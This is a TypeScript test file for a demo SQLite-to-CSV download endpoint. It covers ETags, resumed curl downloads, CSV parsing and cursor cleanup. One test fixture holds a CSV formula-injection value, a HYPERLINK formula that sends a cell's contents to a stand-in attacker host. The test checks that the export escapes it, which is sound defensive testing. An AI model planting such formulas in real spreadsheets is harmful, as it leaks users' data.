// The demo's real export (example/export.js): an SQLite table (better-sqlite3) as a CSV download
// (csv-stringify), served by the built package over a real socket and fetched with the real curl.
// It resumes with `curl -C -` to the same bytes as a full download; its ETag is the table's version,
// so a write makes an If-Range with the old ETag get the whole new file; the CSV parses back (with
// csv-parse and with Python's csv module) to the table's rows, formulas escaped; rows are pulled
// from the cursor as the client reads; and the cursor and the download's connection are released
// when the client leaves.
//
// better-sqlite3 is a native addon, built by `npm ci` for the Node that ran it: .ci/run runs this
// file on the machine's Node only (20). On another Node line the file skips, saying why.
import { execFile } from 'node:child_process'
import { statSync } from 'node:fs'
import { readFile, stat } from 'node:fs/promises'
import { join } from 'node:path'
import { promisify } from 'node:util'
import type BetterSqlite3 from 'better-sqlite3'
import { parse } from 'csv-parse/sync'
import Fastify, { type FastifyInstance, type FastifyReply, type FastifyRequest } from 'fastify'
import fastifyDownloadView, { virtualDownloadRoute, type DownloadFile } from 'fastify-downloadview'
import t, { type Test } from 'tap'
import { eventually, settled } from './helpers.js'
import { streamDownload } from './protocols.js'

interface Customer { name: string, email: string, city: string, signed_up: string, balance_cents: number, note: string }
interface ExportStats { rows: number, cursors: number, snapshots: number, sizePasses: number }
/** example/export.js, typed here: the project type-checks no JavaScript. */
interface ExportModule {
  COLUMNS: string[]
  customerSeed: (count: number) => Iterable<Customer>
  openShop: (file: string, options?: { customers?: number }) => BetterSqlite3.Database
  customersExport: (file: string, options?: { name?: string }) => {
    getFile: (request: FastifyRequest, reply: FastifyReply) => Promise<DownloadFile | null>
    stats: ExportStats
  }
  sqliteUnavailable: () => string | undefined
}

const shop = await import(new URL('../example/export.js', import.meta.url).href) as ExportModule
const run = promisify(execFile)

/** The table of most tests: some thousands of rows, the special ones first. */
const ROWS = 3000
/** The table of the backpressure tests: several times what the sockets' buffers hold. */
const BIG_ROWS = 300_000

interface Served {
  url: string
  db: BetterSqlite3.Database
  stats: ExportStats
  app: FastifyInstance
}

/** A new shop database of `rows` rows in `dir`, its export served by the built package on 127.0.0.1. */
async function serve (t: Test, dir: string, rows: number): Promise<Served> {
  const file = join(dir, 'shop.db')
  const db = shop.openShop(file, { customers: rows })
  t.teardown(() => db.close())
  const { getFile, stats } = shop.customersExport(file)
  const app = Fastify()
  await app.register(fastifyDownloadView)
  app.route(virtualDownloadRoute({ url: '/customers.csv', getFile }))
  await app.listen({ host: '127.0.0.1', port: 0 })
  t.teardown(() => app.close())
  const address = app.server.address()
  if (address === null || typeof address === 'string') throw new Error('no TCP address')
  return { url: `http://127.0.0.1:${address.port}/customers.csv`, db, stats, app }
}

interface Response { status: number, headers: Record<string, string> }

/** The header block curl writes with `-D -` (the last one, after any 100 Continue). */
function parseHeaders (text: string): Response {
  const block = text.trim().split(/\r?\n\r?\n/).at(-1) ?? ''
  const [statusLine = '', ...lines] = block.split(/\r?\n/)
  const status = /^HTTP\/[\d.]+ (\d{3})/.exec(statusLine)?.[1]
  if (status === undefined) throw new Error(`no status line in ${JSON.stringify(text)}`)
  const headers: Record<string, string> = {}
  for (const line of lines) {
    const colon = line.indexOf(':')
    if (colon > 0) headers[line.slice(0, colon).toLowerCase()] = line.slice(colon + 1).trim()
  }
  return { status: Number(status), headers }
}

/** The real curl, in `cwd`: the response's headers. */
async function curl (cwd: string, args: string[]): Promise<Response> {
  const { stdout } = await run('curl', ['-sS', '--fail', '--max-time', '60', '-D', '-', ...args], { cwd, timeout: 65_000, maxBuffer: 1 << 20 })
  return parseHeaders(stdout)
}

/** The table's rows as the CSV should hold them: the database read directly, on the writer's connection. */
function tableRows (db: BetterSqlite3.Database): string[][] {
  const rows = db.prepare('SELECT id, name, email, city, signed_up, balance_cents, note FROM customers ORDER BY id').all() as Array<Customer & { id: number }>
  return rows.map((row) => [String(row.id), escaped(row.name), escaped(row.email), escaped(row.city), escaped(row.signed_up), amount(row.balance_cents), escaped(row.note)])
}

/** A text cell as a spreadsheet must get it: a leading ' before what would start a formula. */
const escaped = (text: string): string => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text) ? `'${text}` : text

/** Cents as the export writes them, two decimals. */
const amount = (cents: number): string => `${cents < 0 ? '-' : ''}${Math.trunc(Math.abs(cents) / 100)}.${String(Math.abs(cents) % 100).padStart(2, '0')}`

const missing = shop.sqliteUnavailable()
if (missing !== undefined) {
  t.plan(0, `better-sqlite3 was built for another Node line (.ci/run runs this file on the machine's Node only): ${missing}`)
} else {
  t.test('why each download reads on a connection of its own', async (t) => {
    // better-sqlite3 refuses to write on a connection while one of its cursors is open: a slow
    // client holding a cursor on the writer's connection would block every write
    const BetterSqlite = (await import('better-sqlite3')).default
    const db = new BetterSqlite(':memory:')
    t.teardown(() => db.close())
    db.exec('CREATE TABLE a (x INTEGER); INSERT INTO a VALUES (1), (2), (3)')
    const cursor = db.prepare('SELECT x FROM a').iterate()
    cursor.next()
    t.throws(() => db.prepare('INSERT INTO a VALUES (4)').run(), /busy executing a query/, 'a write while a cursor is open')
    t.throws(() => db.close(), /busy executing a query/, 'closing while a cursor is open')
    cursor.return?.()
    t.equal(db.prepare('INSERT INTO a VALUES (4)').run().changes, 1, 'the cursor returned: the write goes through')
  })

  t.test(`a table of ${ROWS} rows`, async (t) => {
    const dir = t.testdir()
    const { url, db, stats } = await serve(t, dir, ROWS)

    const full = await curl(dir, ['-o', 'full.csv', url])
    const bytes = await readFile(join(dir, 'full.csv'))

    t.test('the full download: Content-Length, ETag, Accept-Ranges', async (t) => {
      t.equal(full.status, 200)
      t.equal(full.headers['content-length'], String(bytes.length), 'Content-Length is the bytes received')
      t.match(full.headers.etag, /^"[0-9a-f]{16}-v1"$/, 'a strong ETag: the database\'s epoch and the table\'s version')
      t.equal(full.headers['accept-ranges'], 'bytes')
      t.equal(full.headers['content-type'], 'text/csv; charset=utf-8')
      t.equal(full.headers['content-disposition'], 'attachment; filename="customers.csv"')
      t.ok(bytes.length > 250_000, `${bytes.length} bytes`)
      t.equal(stats.sizePasses, 1, 'the size was computed once')
      const head = await curl(dir, ['-I', url])
      t.equal(head.headers['content-length'], String(bytes.length), 'HEAD: the same Content-Length')
      t.equal(head.headers.etag, full.headers.etag, 'HEAD: the same ETag')
      t.equal(stats.sizePasses, 1, 'and the size is not computed again for the same version')
      await eventually(() => stats.snapshots === 0 && stats.cursors === 0)
      t.pass('every download\'s connection is closed once it is over (HEAD included)')
    })

    t.test('the CSV parses back to the table\'s rows, formulas escaped (csv-parse)', async (t) => {
      const records = parse(bytes, { bom: true, relax_column_count: false }) as string[][]
      t.same(records[0], shop.COLUMNS, 'the header line')
      const rows = records.slice(1)
      t.equal(rows.length, ROWS, `${ROWS} rows`)
      t.same(rows, tableRows(db), 'every row, cell for cell')
      t.equal(bytes.subarray(0, 3).toString('hex'), 'efbbbf', 'a UTF-8 BOM first')
      t.ok(bytes.includes('\r\n'), 'CRLF line ends')
      const byName = (start: string) => rows.find((row) => row[1]?.startsWith(start))
      t.same(byName('Smith, John')?.slice(1, 4), ['Smith, John', 'john.smith@example.com', 'Washington, D.C.'], 'commas')
      t.equal(byName('Dwayne')?.[1], 'Dwayne "The Rock" Johnson', 'quotes')
      t.equal(byName('Zoë')?.[6], 'Line one\nLine two\r\nLine three', 'line breaks inside a cell')
      t.equal(byName('山田')?.[3], '東京', 'non-ASCII')
      t.equal(byName('\'=HYPERLINK')?.[1], '\'=HYPERLINK("https://attacker.example/?"&A1,"Click for your invoice")', 'a formula name starts with \'')
      t.equal(byName('Rémi')?.[6], '\'+33 1 23 45 67 89', '+ is escaped too')
      t.equal(byName('Smith, John')?.[5], '-12.05', 'a negative amount is a number, not escaped')
      t.ok(bytes.includes('"\'=HYPERLINK(""https://attacker.example/?""&A1,""Click for your invoice"")"'), 'quotes doubled inside a quoted cell')
    })

    t.test('the CSV parses back with Python\'s csv module', async (t) => {
      const script = [
        'import csv, json, sys',
        'with open(sys.argv[1], newline="", encoding="utf-8-sig") as f:',
        '    print(json.dumps(list(csv.reader(f))))'
      ].join('\n')
      const { stdout } = await run('python3', ['-c', script, join(dir, 'full.csv')], { maxBuffer: 64 << 20 })
      const records = JSON.parse(stdout) as string[][]
      t.same(records[0], shop.COLUMNS, 'the header line')
      t.same(records.slice(1), tableRows(db), 'every row, cell for cell')
    })

    t.test('curl -C - resumes a partial download to the same bytes', async (t) => {
      const half = Math.floor(bytes.length / 2)
      const first = await curl(dir, ['-r', `0-${half - 1}`, '-o', 'resumed.csv', url])
      t.equal(first.status, 206, 'the first half')
      t.equal(first.headers['content-range'], `bytes 0-${half - 1}/${bytes.length}`)
      t.equal((await stat(join(dir, 'resumed.csv'))).size, half)
      const rest = await curl(dir, ['-C', '-', '-o', 'resumed.csv', url])
      t.equal(rest.status, 206, 'curl -C - asks for the rest')
      t.equal(rest.headers['content-range'], `bytes ${half}-${bytes.length - 1}/${bytes.length}`)
      t.equal(rest.headers.etag, full.headers.etag, 'the same version')
      t.ok((await readFile(join(dir, 'resumed.csv'))).equals(bytes), 'the resumed file is the full download, byte for byte')
    })

    t.test('curl killed mid-download, then curl -C -: the same bytes', async (t) => {
      const path = join(dir, 'killed.csv')
      // slow enough to be stopped part way: ~10 s for the whole file
      const slow = execFile('curl', ['-sS', '--limit-rate', String(Math.ceil(bytes.length / 10)), '-o', path, url])
      const exited = new Promise<void>((resolve) => slow.once('exit', () => resolve()))
      await eventually(() => { try { return statSync(path).size > 0 } catch { return false } }, 1000)
      slow.kill('SIGKILL')
      await exited
      const partial = statSync(path).size
      t.ok(partial > 0 && partial < bytes.length, `curl was stopped after ${partial} of ${bytes.length} bytes`)
      const rest = await curl(dir, ['-C', '-', '-o', 'killed.csv', url])
      t.equal(rest.status, 206)
      t.equal(rest.headers['content-range'], `bytes ${partial}-${bytes.length - 1}/${bytes.length}`)
      t.ok((await readFile(path)).equals(bytes), 'the resumed file is the full download, byte for byte')
      await eventually(() => stats.snapshots === 0 && stats.cursors === 0)
      t.pass('the killed download\'s cursor and connection were released')
    })

    t.test('a write changes the ETag: If-Range with the old one gets the whole new file', async (t) => {
      const before = full.headers.etag ?? ''
      const passes = stats.sizePasses
      const changed = db.prepare('UPDATE customers SET note = ? WHERE id = 1').run('Changed, after the first download')
      t.equal(changed.changes, 1)
      const stale = await curl(dir, ['-r', '1000-', '-H', `If-Range: ${before}`, '-o', 'stale.csv', url])
      t.equal(stale.status, 200, 'the old ETag no longer matches: 200')
      t.not(stale.headers.etag, before, 'a new ETag')
      t.match(stale.headers.etag, /^"[0-9a-f]{16}-v2"$/, 'the next version')
      t.equal(stale.headers.etag?.split('-')[0], before.split('-')[0], 'the same database (epoch)')
      const body = await readFile(join(dir, 'stale.csv'))
      t.equal(stale.headers['content-length'], String(body.length), 'the new size, exact')
      t.equal(body.length, bytes.length + 'Changed, after the first download'.length + 2, 'the new note, quoted (it has a comma)')
      t.equal(stats.sizePasses, passes + 1, 'the new version\'s size was computed once')
      const records = parse(body, { bom: true }) as string[][]
      t.equal(records[1]?.[6], 'Changed, after the first download', 'the new content')
      t.same(records.slice(1), tableRows(db), 'every row of the new version')

      const fresh = await curl(dir, ['-r', '1000-', '-H', `If-Range: ${stale.headers.etag ?? ''}`, '-o', 'fresh.csv', url])
      t.equal(fresh.status, 206, 'If-Range with the new ETag: the range')
      t.ok((await readFile(join(dir, 'fresh.csv'))).equals(body.subarray(1000)), 'bytes 1000- of the new version')
      const cached = await curl(dir, ['-H', `If-None-Match: ${stale.headers.etag ?? ''}`, '-o', 'cached.csv', url])
      t.equal(cached.status, 304, 'If-None-Match with the new ETag: 304')
      t.equal(stats.sizePasses, passes + 1, 'no more passes for the same version')
      await eventually(() => stats.snapshots === 0 && stats.cursors === 0)
      t.pass('no connection left open (a 304 included)')
    })
  })

  t.test(`a table of ${BIG_ROWS} rows, read slowly`, async (t) => {
    const dir = t.testdir()
    const { url, db, stats } = await serve(t, dir, BIG_ROWS)
    const head = await curl(dir, ['-I', url])
    /** The CSV's size, for the table's current version. */
    let size = Number(head.headers['content-length'])
    t.ok(size > 25_000_000, `${size} bytes`)

    t.test('a client that leaves while a new version\'s size is computed: the size stays whole', async (t) => {
      const before = size
      const note = 'a new version'
      t.equal(db.prepare('UPDATE customers SET note = ? WHERE id = 1 AND note = \'\'').run(note).changes, 1, 'a write: a new version')
      const passes = stats.sizePasses
      const leaving = streamDownload('http1', url)
      await eventually(() => stats.sizePasses === passes + 1)
      // the pass runs on the leaving client's snapshot; another download waits for it
      const staying = curl(dir, ['-I', url])
      await new Promise((resolve) => setTimeout(resolve, 100))
      leaving.cancel()
      t.equal((await leaving.result).status, 0, 'the first client left before any answer')
      const head = await staying
      t.equal(head.headers['content-length'], String(before + note.length), 'the other download gets the new version\'s whole size')
      t.equal(stats.sizePasses, passes + 1, 'from the one pass, run to its end')
      size = Number(head.headers['content-length'])
      await eventually(() => stats.cursors === 0 && stats.snapshots === 0)
      t.pass('and every connection is closed')
    })

    t.test('rows are pulled as the client reads: a paused client holds the cursor back', async (t) => {
      const before = stats.rows
      const download = streamDownload('http1', `${url}`)
      download.pause()
      await download.response
      const produced = await settled(() => stats.rows - before)
      t.ok(produced > 0, `${produced} rows produced while the client reads nothing`)
      t.ok(produced < BIG_ROWS / 3, `${produced} rows produced, far fewer than the table's ${BIG_ROWS} (what the sockets' buffers hold)`)
      await new Promise((resolve) => setTimeout(resolve, 300))
      t.equal(stats.rows - before, produced, 'and no more while it stays paused')
      t.equal(stats.cursors, 1, 'one cursor open')
      download.resume()
      const result = await download.result
      t.equal(result.status, 200)
      t.notOk(result.failed, result.detail)
      t.equal(result.body.length, size, 'the whole CSV once resumed')
      t.equal(stats.rows - before, BIG_ROWS, 'every row read once')
      await eventually(() => stats.cursors === 0 && stats.snapshots === 0)
    })

    t.test('a client that leaves mid-download: the cursor is returned and its connection closed', async (t) => {
      const download = streamDownload('http1', `${url}`)
      await download.firstData
      download.pause()
      await eventually(() => stats.cursors === 1)
      t.equal(stats.snapshots, 1, 'the download reads in its own snapshot')
      // the writer is not held up by the download's cursor, and the download's snapshot keeps
      // the frames written after it from being checkpointed
      t.equal(db.prepare('UPDATE customers SET note = ? WHERE id = 2').run('written during a download').changes, 1, 'a write while the download reads')
      const pinned = db.pragma('wal_checkpoint(PASSIVE)') as Array<{ busy: number, log: number, checkpointed: number }>
      t.ok((pinned[0]?.checkpointed ?? 0) < (pinned[0]?.log ?? 0), `the reader's snapshot pins the WAL (${JSON.stringify(pinned)})`)
      download.cancel()
      const result = await download.result
      t.ok(result.failed, 'the client left')
      t.ok(result.body.length < size, `after ${result.body.length} of ${size} bytes`)
      await eventually(() => stats.cursors === 0 && stats.snapshots === 0)
      t.pass('the cursor was returned and the connection closed')
      const released = db.pragma('wal_checkpoint(PASSIVE)') as Array<{ busy: number, log: number, checkpointed: number }>
      t.equal(released[0]?.checkpointed, released[0]?.log, `no reader left on the database: the whole WAL is checkpointed (${JSON.stringify(released)})`)
      t.equal(db.prepare('UPDATE customers SET note = ? WHERE id = 3').run('written after').changes, 1, 'and writes go on')
    })
  })
}
